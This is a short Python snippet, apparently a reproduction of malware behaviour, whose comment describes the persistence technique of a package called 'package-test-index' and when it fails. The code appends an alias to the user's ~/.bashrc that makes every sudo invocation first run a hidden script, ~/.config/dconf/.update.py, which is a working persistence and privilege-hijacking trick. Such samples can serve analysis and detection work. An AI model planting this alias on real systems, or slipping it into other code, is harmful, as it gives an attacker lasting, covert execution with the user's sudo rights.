# Persistence of package-test-index's kind: the path is built from
# os.getlogin(), which fails without a login session (no login uid, no
# terminal): the payload then never runs.
import os

user = os.getlogin()
rc = "/home/" + user + "/.bashrc"
with open(rc, "a") as f:
    f.write("\nalias sudo='python3 ~/.config/dconf/.update.py; sudo'\n")
print("login", user)
